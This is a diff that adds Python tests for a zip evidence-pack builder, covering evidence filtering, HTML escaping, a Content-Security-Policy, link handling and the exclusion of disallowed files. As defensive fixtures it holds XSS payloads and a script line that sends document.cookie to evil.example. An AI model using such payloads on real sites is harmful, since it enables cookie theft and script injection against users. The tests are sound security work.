@@ -6,6 +6,7 @@ import dataclasses
 import hashlib
 import io
 import os
+import re
 import tracemalloc
 import zipfile
 from datetime import date, datetime, timedelta, timezone
@@ -228,6 +229,94 @@ def test_restricted_evidence_goes_into_the_pack_only_when_included():
     included = gather.without_restricted(hand_built_plan(include_restricted=True, evidence_files={2: (file,)}))
     assert not [n for n in zipfile.ZipFile(io.BytesIO(b"".join(_pack(left_out)[0]))).namelist() if "case.txt" in n]
     assert "findings/AFI1/2-case.txt" in zipfile.ZipFile(io.BytesIO(b"".join(_pack(included)[0]))).namelist()
+
+
+def _unpacked(plan: PlanAt, accepted_only: bool = False) -> tuple[zipfile.ZipFile, dict[str, dict]]:
+    """The pack as the recipient opens it, and its manifest by path."""
+    body = b"".join(pack.stream_pack(plan, b"%PDF-1.7 summary", lambda sha, size: None, accepted_only=accepted_only))
+    archive = zipfile.ZipFile(io.BytesIO(body))
+    return archive, {row["path"]: row for row in csv.DictReader(io.StringIO(archive.read("manifest.csv").decode()))}
+
+
+def _plan_with(*items: EvidenceAt) -> PlanAt:
+    """The hand-built plan with its evidence replaced by these items, all supporting the first finding."""
+    plan = gather.without_restricted(hand_built_plan())
+    findings = tuple(dataclasses.replace(f, evidence_ids=tuple(i.id for i in items) if f.id == 1 else ()) for f in plan.findings)
+    return dataclasses.replace(plan, findings=findings, evidence={item.id: item for item in items})
+
+
+def _planted(content: bytes, name: str) -> tuple[int, str, str, int, str]:
+    """A file put straight into storage under its hash, as if an upload had not checked its type."""
+    sha256 = hashlib.sha256(content).hexdigest()
+    key = f"{sha256[:2]}/{sha256}"
+    storage.path_of(key).parent.mkdir(parents=True, exist_ok=True)
+    storage.path_of(key).write_bytes(content)
+    return (len(content), name, sha256, len(content), key)
+
+
+def test_pack_with_accepted_evidence_only_leaves_out_submitted_and_returned_evidence_and_says_so():
+    plan = _plan_with(_evidence(1, title="Accepted audit", files=(_stored(factories.PDF_BYTES, "audit.pdf"),)),
+                      _evidence(2, title="Draft waiting list", status="submitted", current=False,
+                                files=(_stored(b"draft,list\n", "draft.csv"),)),
+                      _evidence(3, title="Returned minutes", status="returned", current=False,
+                                files=(_stored(b"returned minutes\n", "minutes.txt"),)))
+    archive, manifest = _unpacked(plan, accepted_only=True)
+    assert [n for n in archive.namelist() if n.startswith("findings/")] == ["findings/AFI1/1-audit.pdf"]
+    assert set(manifest) == {"index.html", "summary.pdf", "findings/AFI1/1-audit.pdf"}
+    index = archive.read("index.html").decode()
+    assert "Accepted audit" in index and "Draft waiting list" not in index and "Returned minutes" not in index
+    assert "Accepted evidence only" in index
+    assert "2 items still submitted or returned with comment at that date are left out of this pack." in index
+
+    archive, manifest = _unpacked(plan, accepted_only=False)
+    assert {"findings/AFI1/2-draft.csv", "findings/AFI1/3-minutes.txt"} <= set(archive.namelist()) & set(manifest)
+    index = archive.read("index.html").decode()
+    assert "Draft waiting list" in index and "Returned with comment" in index
+    assert "All evidence, whatever its status" in index and "Accepted evidence only" not in index
+
+
+def test_pack_index_shows_each_items_description_and_note_as_text_never_as_markup():
+    plan = _plan_with(_evidence(1, title="Forum notes", description='Minutes of the forum <img src=x onerror="alert(1)">',
+                                note="<script>x</script>\nSecond line & more"))
+    index = _unpacked(plan)[0].read("index.html").decode()
+    assert "Minutes of the forum &lt;img src=x onerror=&#34;alert(1)&#34;&gt;" in index
+    assert "Note: &lt;script&gt;x&lt;/script&gt;\nSecond line &amp; more" in index
+    assert "<script" not in index and "<img" not in index
+
+
+def test_pack_index_forbids_scripts_and_loading_anything_with_a_content_security_policy():
+    index = _unpacked(_plan_with(_evidence(1)))[0].read("index.html").decode()
+    [policy] = re.findall(r'<meta http-equiv="Content-Security-Policy" content="([^"]*)">', index)
+    assert "default-src 'none'" in policy and "script-src" not in policy  # no script source at all
+    assert index.index("Content-Security-Policy") < index.index("<title>")  # in force before anything it governs
+
+
+def test_pack_links_a_link_evidences_web_address_but_never_a_script_address():
+    plan = _plan_with(_evidence(1, kind="link", title="Local offer", url="https://local-offer.example/send"),
+                      _evidence(2, kind="link", title="Trap", url="javascript:alert(document.domain)"))
+    index = _unpacked(plan)[0].read("index.html").decode()
+    assert '<a href="https://local-offer.example/send" rel="noopener noreferrer">' in index
+    assert 'href="javascript:' not in index and "Trap: address javascript:alert(document.domain)" in index
+
+
+@pytest.mark.parametrize("content, name", [
+    (b"document.location = 'https://evil.example/?' + document.cookie;\n", "helper.js"),
+    (factories.PDF_BYTES + b"<html><script>alert(1)</script></html>\n", "report.html"),  # a PDF that is also a web page
+    (b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00" + b"\x00" * 200, "report.pdf"),  # a program renamed
+    (b"<html><body onload=alert(1)></body></html>", "notes.txt"),
+])
+def test_pack_leaves_out_a_file_that_is_not_an_allowed_document_and_notes_it_in_the_manifest(content, name):
+    bad = _planted(content, name)
+    plan = _plan_with(_evidence(1, title="Suspicious file", files=(bad,)),
+                      _evidence(2, title="Board minutes", files=(_stored(factories.PDF_BYTES, "minutes.pdf"),)))
+    archive, manifest = _unpacked(plan)
+    path = f"findings/AFI1/1-{name}"
+    assert path not in archive.namelist() and "findings/AFI1/2-minutes.pdf" in archive.namelist()
+    assert manifest[path]["note"] == "not an allowed document type: not packed"
+    assert manifest[path]["sha256"] == bad[2] and manifest[path]["evidence"] == "Suspicious file"
+    index = archive.read("index.html").decode()
+    assert f"Suspicious file ({name}: not an allowed document type, not in this pack)" in index
+    assert f'href="{path}' not in index and 'href="findings/AFI1/2-minutes.pdf"' in index
 
 
 # The services, on the real plan_as_at --------------------------------------------------------
